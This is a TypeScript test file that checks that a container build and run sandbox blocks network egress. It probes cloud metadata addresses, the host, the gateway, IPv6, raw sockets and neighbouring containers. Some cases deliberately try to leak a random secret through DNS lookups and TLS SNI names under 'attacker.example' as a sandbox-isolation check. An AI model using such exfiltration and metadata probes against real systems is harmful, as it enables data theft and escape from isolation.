import { randomBytes, randomUUID } from "node:crypto";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import {
  events,
  realHome,
  requestOf,
  submit,
  type TestBuilds,
  testBuilds,
} from "@/server/build/fixture";
import { testImages, testSandbox } from "@/server/run/fixture";
import { type Database, openDatabase } from "@/server/storage/database";
import { type Actions, hostListener, inBuild, inRun, type Said, startRun } from "./inside.fixture";

const { docker, facts } = testSandbox();
const images = testImages(docker);
const gateway = facts.gateway ?? "";
const allowed = Object.keys(facts.hosts);
let database: Database;
let builds: TestBuilds;
beforeAll(async () => {
  database = await openDatabase();
  builds = await testBuilds(database, realHome);
});
afterAll(async () => {
  await builds.end();
  await database.close();
  await images.removeAll();
});

const places: [string, (actions: Actions) => Promise<Said>][] = [
  ["a build", (actions) => inBuild(builds, actions)],
  ["a run", (actions) => inRun(images, actions)],
];

/** An action for each of these places, named after it. */
function each(code: "connect" | "send", port: number, hosts: readonly string[]): Actions {
  return Object.fromEntries(
    hosts.map((host) => [
      `${code} ${host} ${port}`,
      `return ${code}(${port}, ${JSON.stringify(host)})`,
    ]),
  );
}

describe.skipIf(!facts.walls.network)("in the sandbox", () => {
  describe.each(places)("%s", (_, tried) => {
    test("reaches no address out there, and no cloud's metadata", async () => {
      const said = await tried({
        ...each("connect", 80, ["169.254.169.254", "100.100.100.200", "1.1.1.1"]),
        ...each("connect", 53, ["8.8.8.8", "1.1.1.1"]),
        "another resolver": 'return ask("8.8.8.8", "example.com")',
        "the cloud's resolver": 'return ask("169.254.169.253", "example.com")',
      });
      for (const [what, answer] of Object.entries(said)) {
        expect(answer, what).toMatch(/^E(NETUNREACH|HOSTUNREACH|CONNREFUSED|TIMEOUT)$/);
      }
    });

    test("reaches no address of the host, loopback and link-local among them", async () => {
      const host = await hostListener();
      await host.knock();
      expect(host.heard()).toBe(1);
      const said = await tried({
        ...each("connect", host.port, host.addresses),
        ...each("send", host.port, host.addresses),
        ...each("connect", host.port, [gateway, "host.docker.internal", "gateway.docker.internal"]),
      });
      const reached = Object.entries(said).filter(([, answer]) => answer === "done");
      expect(reached).toEqual([]);
      expect(host.heard()).toBe(1);
      host.close();
    });

    test("has no IPv6 but its own loopback", async () => {
      const said = await tried({
        interfaces: `return Object.values(os.networkInterfaces()).flat()
          .filter((one) => !one.internal).map((one) => one.family).join()`,
        "the kernel's addresses": `return fs.readFileSync("/proc/net/if_inet6", "utf8").split("\\n")
          .filter((line) => line && !line.endsWith(" lo")).length`,
        ...each("connect", 443, ["2606:4700:4700::1111", "fd00:ec2::254", "fe80::1%eth0"]),
        ...each("send", 5353, ["ff02::1%eth0", "ff02::fb%eth0"]),
      });
      expect(said).toMatchObject({
        interfaces: expect.stringMatching(/^(IPv4|4)$/),
        "the kernel's addresses": expect.stringMatching(/^(0|ENOENT)$/),
      });
      const others = Object.entries(said).filter(([what]) => /^(connect|send)/.test(what));
      expect(others).toHaveLength(5);
      for (const [what, answer] of others) {
        expect(answer, what).toMatch(
          /^E(NETUNREACH|HOSTUNREACH|ADDRNOTAVAIL|INVAL|ACCES|PERM|AFNOSUPPORT)$/,
        );
      }
    });

    test("tunnels nothing through names: the resolver knows none but its own", async () => {
      const secret = randomBytes(20).toString("hex");
      const names = {
        short: `${secret}.attacker.example`,
        long: `${[secret, secret, secret, secret].map((part) => `${part}a`).join(".")}.attacker.example`,
        below: `${secret}.${allowed[0] ?? "registry.example"}`,
      };
      const ask = (kind: string) =>
        Object.fromEntries(
          Object.entries(names).map(([which, name]) => [
            `${kind} ${which}`,
            `return JSON.stringify(await dns.${kind}("${name}"))`,
          ]),
        );
      const said = await tried({
        ...ask("lookup"),
        ...ask("resolve4"),
        ...ask("resolve6"),
        ...ask("resolveTxt"),
        ...ask("resolveAny"),
        ...ask("resolveCname"),
        ...each("connect", 53, [gateway]),
      });
      for (const [what, answer] of Object.entries(said)) {
        expect(answer, what).toMatch(
          /^(ENOTFOUND|ESERVFAIL|EAI_AGAIN|EBADRESP|ENOTIMP|ECONNREFUSED|E(HOST|NET)UNREACH)$/,
        );
      }
      // What passes the walls is written down by the process outside them.
      expect(readFileSync(join(realHome, "log/egress.log"), "utf8")).not.toContain(secret);
    });
  });

  test("a build finds the allowed names at the gateway, and no other in what it says there", async () => {
    const secret = `${randomUUID()}.attacker.example`;
    const said = await inBuild(builds, {
      ...Object.fromEntries(
        allowed.map((name) => [name, `return (await dns.lookup("${name}")).address`]),
      ),
      "IPv6 of an allowed name": `return JSON.stringify(await dns.resolve6("${allowed[0]}"))`,
      "a hello to another": `await new Promise((resolve, reject) =>
        tls.connect({ host: "${gateway}", port: 443, servername: "${secret}", timeout: 4000 }, resolve).on("error", reject))`,
      "no name at all": `await new Promise((resolve, reject) =>
        tls.connect({ host: "${gateway}", port: 443, timeout: 4000 }, resolve).on("error", reject))`,
      ...each("connect", 22, [gateway]),
      ...each("connect", 2375, [gateway]),
    });
    for (const name of allowed) expect(said[name]).toBe(gateway);
    const others = Object.entries(said).filter(([what]) => !allowed.includes(what));
    expect(others.map(([, answer]) => answer)).not.toContain("done");
    expect(said["IPv6 of an allowed name"]).toBe("ENODATA");
  });

  test("a run has no way out at all: not even to what builds may reach", async () => {
    const said = await inRun(images, {
      ...Object.fromEntries(allowed.map((name) => [name, `await connect(443, "${name}")`])),
      ...each("connect", 443, [gateway]),
      ...each("connect", 80, [gateway]),
      "the network's own gateway": `
        const [{ address }] = Object.values(os.networkInterfaces()).flat().filter((one) => !one.internal);
        const own = address.replace(/[0-9]+$/, "1");
        return (await Promise.all([53, 80, 443, 2375].map((port) => connect(port, own).catch((error) => error.code)))).join()`,
    });
    expect(Object.values(said)).not.toContain("done");
    expect(said["the network's own gateway"]).toBe(Array(4).fill("EHOSTUNREACH").join());
  });

  test("a build opens no raw socket, so it can speak in nobody else's name", async () => {
    const open = (...socket: number[]) =>
      `return execFileSync("perl", ["-e", 'print socket(my $s, ${socket.join()}) ? "open" : $!'], { encoding: "utf8" })`;
    const said = await inBuild(
      builds,
      { frames: open(17, 3, 768), packets: open(2, 3, 255), pings: open(2, 3, 1) },
      "node:14",
    );
    const no = "Operation not permitted";
    expect(said).toEqual({ frames: no, packets: no, pings: no });
  });

  describe("nobody reaches a neighbour:", () => {
    // Says its own address, and whoever comes.
    const listen = `
      require("net").createServer((socket) => { console.log("heard"); socket.end(); }).listen(4000, () => {
        require("dgram").createSocket("udp4").on("message", () => console.log("heard")).bind(4000, () => {
          const own = Object.values(require("os").networkInterfaces()).flat().filter((one) => !one.internal);
          console.log("at " + own.map((one) => one.address).join());
        });
      });`;
    const addressIn = (text: string) => /^at (\S+)$/m.exec(text)?.[1];

    /** Someone who listens: where, what was said so far, and how to end it. */
    async function listeningBuild() {
      const files = {
        Dockerfile: "FROM node:24-alpine\nCOPY x.js /\nRUN node /x.js",
        "x.js": `${listen}//${randomUUID()}`,
      };
      const id = await submit(builds, requestOf(files), "bob");
      let text = "";
      const ended = events(
        builds,
        id,
        (event) => {
          if (event.type === "log") text += event.text;
          return false;
        },
        "bob",
      );
      await expect.poll(() => addressIn(text), { timeout: 20_000 }).toBeDefined();
      return {
        address: addressIn(text) ?? "",
        text: () => text,
        end: async () => {
          await builds.cancel(id, "bob");
          await ended;
        },
      };
    }

    async function listeningRun() {
      const { container, text } = await startRun(images, listen);
      await expect.poll(() => addressIn(text()), { timeout: 20_000 }).toBeDefined();
      return { address: addressIn(text()) ?? "", text, end: () => container.remove() };
    }

    test.each([
      ["a build", "another build", listeningBuild, places[0]],
      ["a run", "a build", listeningBuild, places[1]],
      ["a build", "a run", listeningRun, places[0]],
      ["a run", "another run", listeningRun, places[1]],
    ] as const)("%s does not reach %s", async (_, __, listening, place) => {
      const neighbour = await listening();
      const { address } = neighbour;
      const said = await place?.[1]({
        ...each("connect", 4000, [address]),
        ...each("send", 4000, [address, address.replace(/\d+$/, "255")]),
        // Not even its hardware address: no frame passes.
        "the neighbours it knows": `
          await connect(4000, "${address}").catch(() => {});
          return fs.readFileSync("/proc/net/arp", "utf8").split("\\n")
            .filter((line) => line.startsWith("${address} ") && !line.includes("00:00:00:00:00:00")).join()`,
        "the neighbour's name": `return (await dns.reverse("${address}")).join()`,
      });
      expect(said?.[`connect ${address} 4000`]).toMatch(
        /^E(HOSTUNREACH|NETUNREACH|TIMEDOUT|CONNREFUSED)$/,
      );
      expect(said?.["the neighbours it knows"]).toBe("");
      expect(neighbour.text()).not.toContain("heard");
      await neighbour.end();
    });
  });
});
